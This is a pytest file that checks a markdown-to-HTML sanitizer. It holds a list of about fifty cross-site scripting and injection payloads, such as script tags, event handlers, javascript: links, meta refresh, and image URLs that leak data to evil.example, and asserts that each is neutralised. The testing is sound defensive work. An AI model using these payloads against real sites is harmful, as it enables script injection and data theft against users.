"""Markdown becomes HTML that says what it said and can do nothing."""

from __future__ import annotations

import time

import pytest

from nbagents.widgets.markdown import to_html
from tests.widgets.dom import Page, wrongs

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in a fence's word": "```<script>alert(1)</script>\nx\n```",
    "fence word with a quote": '```python" onmouseover="alert(1)\nx\n```',
    "handler": "<p onclick=alert(1)>x</p>",
    "img handler": '<img src=x onerror="alert(1)">',
    "remote image": "![data](https://evil.example/x.png?q=secret)",
    "image by reference": "![a][b]\n\n[b]: https://evil.example/x.png",
    "image in a link": "[![a](https://evil.example/x.png)](https://example.org)",
    "data image": "![a](data:image/svg+xml;base64,PHN2Zy8+)",
    "javascript link": "[x](javascript:alert(1))",
    "javascript link, entity": "[x](javascript&#58;alert(1))",
    "javascript link, mixed case and tab": "[x](<JaVa\tScRiPt:alert(1)>)",
    "javascript link, leading space": "[x](< javascript:alert(1)>)",
    "javascript autolink": "<javascript:alert(1)>",
    "javascript by reference": "[x][y]\n\n[y]: javascript:alert(1)",
    "vbscript": "[x](vbscript:msgbox)",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "file link": "[x](file:///etc/passwd)",
    "relative link": "[x](/api/shutdown)",
    "link without a scheme": "[x](//evil.example/x)",
    "title": '[x](https://example.org "a\\" onclick=\\"alert(1)")',
    "style": "<style>*{background:url(https://evil.example)}</style>",
    "style attribute": '<b style="background:url(https://evil.example)">x</b>',
    "iframe": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="https://evil.example"></object><embed src=x>',
    "svg": "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "svg animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "unclosed": '<img src="x` `onerror=alert(1) <b',
    "comment": "<!-- --!><img src=x onerror=alert(1)> -->",
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "instruction": "<?xml version='1.0'?><x/>",
    "form": '<form action="https://evil.example"><input name=q><button>go</button></form>',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "in a table": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "in a heading": "# <img src=x onerror=alert(1)>",
    "in math": "$<img src=x onerror=alert(1)>$ and \\(<script>alert(1)</script>\\)",
    "math block": "$$\n<script>alert(1)</script>\n$$",
    "nul": "<scr\0ipt>alert(1)</script>",
    "lone surrogate": "a\ud800<script>b",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><img src=x onerror=alert(1)></template>",
    "plaintext": "<plaintext><b onclick=x>",
    "entities": "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;",
    "ids": '<a id="jp-main" name="cookie">x</a>',
}


@pytest.mark.parametrize("markdown", HOSTILE.values(), ids=HOSTILE.keys())
def test_nothing_hostile_gets_through(markdown: str) -> None:
    html = to_html(markdown)
    assert not wrongs(html)
    assert not Page(html).tags("img")


@pytest.mark.parametrize("markdown", HOSTILE.values(), ids=HOSTILE.keys())
@pytest.mark.parametrize("around", ["> {}", "- a\n\n  {}", "**{}**", "[{}](https://example.org)", "~~{}~~ `x"])
def test_nothing_hostile_gets_through_inside_of_something(markdown: str, around: str) -> None:
    assert not wrongs(to_html(around.format(markdown)))


def test_an_image_is_named_and_not_loaded() -> None:
    text = Page(to_html("![the *chart*](https://evil.example/c.png?d=secret)")).text
    assert text.strip() == "[image not loaded: the chart · evil.example]"
    assert "[image not loaded: no description]" in to_html("![](data:image/png;base64,AAAA)")


def test_links_lead_to_the_web_and_open_beside_the_notebook() -> None:
    html = to_html("[a](https://example.org/x) <mailto:a@example.org> [b](../tree)")
    links = Page(html).tags("a")
    assert [link.get("href") for link in links] == ["https://example.org/x", "mailto:a@example.org", None]
    assert {link["rel"] for link in links} == {"noopener noreferrer nofollow"}
    assert {link["target"] for link in links} == {"_blank"}


@pytest.mark.parametrize(
    "formula",
    [r"$x_a * b_c * d$", r"$$x_1 = \{a\}$$", r"\(a_b\)", r"\[ a_b * c_d \]", "$$\na\n= b\n- c\n$$", "\\[\na\n===\n\\]"],
)
def test_latex_stays_as_it_was_written(formula: str) -> None:
    html = to_html(f"before {formula} after" if "\n" not in formula else f"before\n{formula}\nafter")
    assert formula in Page(html).text
    assert not Page(html).tags("em")
    assert not Page(html).tags("h3")


def test_prices_are_not_latex() -> None:
    html = to_html("It costs $5 *b* and $6 then, or $7 and $8.")
    assert "<em>b</em>" in html
    # The typesetter, whose rules are others, finds no two dollars in one piece of text.
    assert html.count("<span>$</span>") == html.count("$") == 4
    assert "$x^2$" in to_html("Of $x^2$ and $5.")


def test_code_is_highlighted_and_escaped() -> None:
    html = to_html('```python\nif a < "<b>":  # x\n    pass\n```')
    assert Page(html).text.strip() == 'if a < "<b>":  # x\n    pass'
    assert '<span class="k">if</span>' in html
    assert Page(to_html("```nonsense\na < b\n```")).text.strip() == "a < b"


def test_very_long_code_is_shown_without_colours() -> None:
    html = to_html("```python\n" + "x = 1\n" * 20_000 + "```")
    assert "<span" not in html


def test_headings_are_headings_of_a_part() -> None:
    assert [tag for tag, _ in Page(to_html("# a\n\n#### b\n\n###### c")).elements] == ["h3", "h6", "h6"]


def test_tables_keep_their_alignment() -> None:
    cells = Page(to_html("| a | b |\n|:-:|--:|\n| 1 | 2 |")).tags("td")
    assert [cell["align"] for cell in cells] == ["center", "right"]


def test_characters_that_turn_or_hide_others_are_named() -> None:
    assert "⟨U+202E⟩" in to_html("access \u202e level")
    assert "⟨U+2066⟩" in Page(to_html("```python\nif x: \u2066# not\u2069\n```")).text
    assert "⟨U+E0041⟩" in to_html("hidden \U000e0041")


def test_what_never_closes_does_not_take_forever() -> None:
    started = time.perf_counter()
    for piece in ("![", "$$x\n\n", "\\[a\n\n", "**a _b ", "`a``b", ">"):
        to_html(piece * 5_000)
    assert time.perf_counter() - started < 10
